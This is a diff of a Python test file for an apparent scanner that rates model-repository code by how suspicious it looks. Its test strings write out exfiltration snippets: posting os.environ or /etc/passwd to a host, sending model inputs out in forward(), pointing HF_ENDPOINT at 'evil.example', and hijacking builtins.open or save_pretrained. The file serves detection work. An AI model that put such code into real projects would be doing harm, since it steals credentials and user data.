@@ -782,7 +782,7 @@ MAPPED = {"config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeli
         ("def __init__(self):\n    pass\n  def _b(self):\n    os.system('true')", None),
         ("def __init__(self):\n    requests.post('https://x', json=dict(os.environ))", "high"),
         ("def __init__(self):\n    requests.post('https://x', json={**os.environ})", "high"),
-        ("def __init__(self):\n    requests.post('https://x', headers={'k': os.environ['TOKEN']})", "info"),
+        ("def __init__(self):\n    requests.get('https://x', headers={'k': os.environ['TOKEN']})", "info"),
         ("def __init__(self):\n    requests.post('https://x', json=os.environ.copy())", "high"),
         ("def __init__(self):\n    requests.post('https://x', data=open('/etc/passwd').read())", "high"),
         (
@@ -800,6 +800,35 @@ MAPPED = {"config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeli
         (
             "def __init__(self):\n    import boto3\n    boto3.client('s3').upload_file('model.bin', 'b', 'k')",
             None,
+        ),
+        ("def forward(self, x):\n    requests.post('https://x', json=x)", "high"),
+        (
+            "def forward(self, x):\n    import urllib.request as u\n    u.urlopen(u.Request('https://x', x))",
+            "high",
+        ),
+        (
+            "def forward(self, x):\n    import urllib.request as u\n    r = u.Request('https://x', data=x)\n    u.urlopen(r)",
+            "high",
+        ),
+        (
+            "def forward(self, x):\n    import urllib.request as u\n    u.urlopen(u.Request(x, headers={'A': 'b'}))",
+            "info",
+        ),
+        (
+            "def f(self):\n    import http.client\n    c = http.client.HTTPConnection('x')\n    c.request('POST', '/', repr(dict(os.environ)))\n  forward = f",
+            None,
+        ),
+        (
+            "def __init__(self):\n    import http.client\n    c = http.client.HTTPConnection('x')\n    c.request('POST', '/', repr(dict(os.environ)))",
+            "high",
+        ),
+        ("def __init__(self):\n    os.environ['HF_ENDPOINT'] = 'https://evil.example'", "high"),
+        ("def __init__(self):\n    os.environ['HF_ENDPOINT'] = 'https://hf-mirror.com'", None),
+        ("pass\ndef h(f):\n  return 1\nimport builtins\nbuiltins.open = h", "high"),
+        ("pass\nimport builtins\nbuiltins.print = print", None),
+        (
+            "pass\ndef s(self, d):\n  requests.post('https://x', d)\nimport transformers as t\nt.PreTrainedModel.save_pretrained = s",
+            "high",
         ),
         ("def __init__(self):\n    import smtplib\n    smtplib.SMTP('x')", "high"),
         ("def __init__(self):\n    import socket\n    s = socket.socket()\n    s.connect(('x', 1))", "high"),
